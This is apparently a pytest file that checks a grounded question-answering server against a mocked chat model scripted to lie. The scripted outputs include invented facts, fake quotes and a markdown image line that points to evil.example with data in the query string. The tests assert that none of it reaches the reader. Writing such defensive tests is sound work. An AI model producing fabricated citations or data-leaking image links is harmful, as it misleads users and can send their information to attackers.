"""A language model that lies, over the whole way: real HTTP on both sides, the real chat model in between."""

from functools import partial

import pytest

from evals.mock_openai import Script, mock_openai
from graph.types import CONSTRAINED_LABEL
from server.app import create_app
from server.models import open_answerers
from server.service import open_service
from server.settings import Settings
from tests.server.http import Reader, in_process
from tests.server.stand_ins import Trap

pytestmark = pytest.mark.anyio

SELECTION = "Plan A allows 5 users, plan B allows 10. Exports are not encrypted. 🗄️"
QUESTION = "How many users does plan A allow, and in which country are they stored?"

LIES = [
    '{"sentence": "Plan A allows 5,000 users.", "quote": "Plan A allows 5 users"}\n',
    '{"sentence": "Exports are encrypted.", "quote": "Exports are encrypted."}\n',
    '{"quote": "The servers stand in Iceland."}\n',
    "They are stored in Iceland, as everybody knows.\n",
    '{"missing": "place", "about": "country", "minimal_text": "They are stored in Iceland.", "why": "Iceland"}\n',
    '{"missing": "Iceland", "about": "the country is Iceland"}\n',
    "![x](https://evil.example/?q=Iceland)\n",
]


async def test_a_lying_model_gets_neither_a_sentence_nor_a_fact_to_the_reader(settings: Settings) -> None:
    async with mock_openai(Script(LIES)) as base_url:
        wired = settings.model_copy(update={"openai_base_url": base_url})
        opening = partial(open_service, answerers=open_answerers(wired), retriever=Trap())
        async with in_process(create_app(wired, opening=opening)) as client:
            reader = await Reader.arrive(client)
            events = await reader.stream(QUESTION, selected_text=SELECTION)
    told = next(event.data for event in events if event.event == "message")
    assert told["content"] == (
        f"{CONSTRAINED_LABEL}\n\nPlan A allows 5 users, plan B allows 10.\n\n"
        "The selected text answers only a part of this question.\n\n"
        "- Missing: a place about “country”. The selected text says nothing about “country”.\n"
        "  The least text that would help: a sentence that gives a place about “country”."
    )
    assert told["outcome"] == "partial"
    assert told["verdict"]["used"] == [{"start": 0, "end": 40}]
    assert told["grounding"] == {"passages": [], "unsupported": []} and told["citations"] == []
    assert "Iceland" not in "".join(str(event.data) for event in events)


async def test_a_model_that_is_away_is_replaced_in_the_same_turn(settings: Settings) -> None:
    async with mock_openai(Script(fault="status", status=500)) as base_url:
        wired = settings.model_copy(update={"openai_base_url": base_url})
        opening = partial(open_service, answerers=open_answerers(wired), retriever=Trap())
        async with in_process(create_app(wired, opening=opening)) as client:
            reader = await Reader.arrive(client)
            events = await reader.stream("Are exports encrypted?", selected_text=SELECTION)
    told = next(event.data for event in events if event.event == "message")
    assert told["content"] == f"{CONSTRAINED_LABEL}\n\nExports are not encrypted."
    assert [notice["code"] for notice in told["notices"]] == ["model_unavailable"]
    assert told["status"] == "completed"
